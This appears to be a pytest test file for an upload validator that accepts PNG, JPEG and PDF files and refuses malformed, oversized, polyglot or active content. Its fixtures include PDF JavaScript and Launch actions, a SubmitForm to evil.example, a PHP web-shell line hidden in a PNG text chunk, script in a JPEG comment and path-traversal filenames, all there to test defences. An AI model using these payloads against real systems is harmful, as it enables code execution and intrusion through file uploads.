"""Files from strangers: judged by content, never decoded, never two things at once."""

import struct
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.photo_types import FileRefused, named, photo_or_document

pytestmark = pytest.mark.unit


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I4s", len(data), kind) + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2, more: bytes = b"") -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + more + chunk(b"IDAT", b"") + chunk(b"IEND", b"")


def jpeg(width: int = 4000, height: int = 3000, comment: bytes = b"", behind: bytes = b"") -> bytes:
    def segment(marker: int, data: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data

    frame = segment(0xC0, struct.pack(">BHHB", 8, height, width, 3) + bytes(9))
    said = segment(0xFE, comment) if comment else b""
    return b"\xff\xd8" + segment(0xE1, b"Exif\0\0") + said + frame + segment(0xDA, bytes(10)) + b"scan\xff\xd9" + behind


PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


@pytest.mark.parametrize(
    ("content", "media_type"), [(png(), "image/png"), (jpeg(), "image/jpeg"), (PDF, "application/pdf")]
)
def test_photos_and_documents_are_taken(content: bytes, media_type: str) -> None:
    assert photo_or_document(content) == media_type


def pdf(inside: bytes) -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog" + inside + b">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


@pytest.mark.parametrize(
    "inside",
    [
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>",
        b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>",
        b"/Names<</EmbeddedFiles<</Names[(a.exe)2 0 R]>>>>",
        b"/Names<</#45mbeddedFil#65s 2 0 R>>",
        b"/Annots[<</Subtype/FileAttachment/FS 3 0 R>>]",
        b"/AA<</O<</S/Launch/F(calc.exe)>>>>",
        b"/A<</S/SubmitForm/F(http://evil.example)>>",
        b"/AcroForm<</XFA 4 0 R>>",
        # In a stream as it stands, which a viewer may read as objects.
        b">>endobj 5 0 obj<</Length 40>>stream\n<</S/JavaScript/JS(x)>>\nendstream endobj 6 0 obj<<",
        # A body without an end hides nothing.
        b"/Filter/FlateDecode>>stream\nabc>>endobj 7 0 obj<</JS(app.alert(1))",
    ],
)
def test_a_pdf_that_runs_sends_or_holds_something_is_refused_however_its_names_are_spelled(inside: bytes) -> None:
    with pytest.raises(FileRefused, match="active"):
        photo_or_document(pdf(inside))


def test_a_scan_whose_coded_bytes_happen_to_spell_a_name_is_taken() -> None:
    image = b"/Subtype/Image/Filter/DCTDecode/Length 9>>stream\n\xff\xd8/JS \x01/EF\x02\nendstream endobj 9 0 obj<<"
    assert photo_or_document(pdf(image)) == "application/pdf"
    assert photo_or_document(pdf(b"/JSomething 1/EFfort 2")) == "application/pdf"


def test_what_telephones_put_behind_a_photo_does_no_harm() -> None:
    assert photo_or_document(jpeg(behind=b"\x00\x00\x00\x18ftypmp42" + bytes(5000))) == "image/jpeg"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "type"),
        (b"GIF89a/*", "type"),
        (b"MZ\x90\x00", "type"),
        (b"PK\x03\x04", "type"),
        (b" %PDF-1.7", "type"),
        (png(60_000, 60_000), "pixels"),
        (png(0, 5), "broken"),
        (jpeg(65_000, 65_000), "pixels"),
        (png()[:-12], "broken"),
        (jpeg()[:40], "broken"),
        (b"\xff\xd8\xff", "broken"),
        (b"\x89PNG\r\n\x1a\n", "broken"),
        (png() + b"<script>alert(1)</script>", "mixed"),
        (png(more=chunk(b"tEXt", b"Comment\0<?php system($_GET[0]) ?>")), "mixed"),
        (jpeg(comment=b"<ScRiPt>alert(1)</sCrIpT>"), "mixed"),
        (jpeg(behind=b"<html>"), "mixed"),
        (jpeg(behind=b"PK\x03\x04" + bytes(30) + b"PK\x05\x06" + bytes(18)), "mixed"),
        (jpeg(behind=PDF), "mixed"),
        (jpeg(comment=b"%PDF-1.4"), "mixed"),
        (PDF + b"PK\x05\x06" + bytes(18), "mixed"),
        (PDF[:-6], "broken"),
        (PDF.replace(b"/Type", b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>/Type"), "active"),
        (PDF.replace(b"/Type", b"/EmbeddedFiles 2 0 R/EmbeddedFile/Type"), "active"),
        (PDF.replace(b"/Type", b"/S/Launch/Type"), "active"),
    ],
)
def test_anything_else_is_refused_by_what_is_wrong_with_it(content: bytes, reason: str) -> None:
    with pytest.raises(FileRefused) as found:
        photo_or_document(content)
    assert found.value.reason == reason


@given(st.sampled_from([b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"%PDF-", b""]), st.binary(max_size=200))
def test_no_bytes_make_it_fail_otherwise(start: bytes, rest: bytes) -> None:
    try:
        photo_or_document(start + rest)
    except FileRefused:
        return


@pytest.mark.parametrize(
    ("given_name", "kept"),
    [
        ("shelf.JPG", "shelf.JPG"),
        ("../../etc/passwd", "passwd.jpg"),
        ("C:\\photos\\a.exe", "a.exe.jpg"),
        ("a\x00\nb.jpeg", "ab.jpeg"),
        ("", "unnamed.jpg"),
        ("照片.jpg", "照片.jpg"),
        ("x" * 400 + ".jpg", "x" * 150 + ".jpg"),
    ],
)
def test_a_name_is_shown_never_opened_and_ends_as_its_content_says(given_name: str, kept: str) -> None:
    assert named(given_name, "image/jpeg") == kept
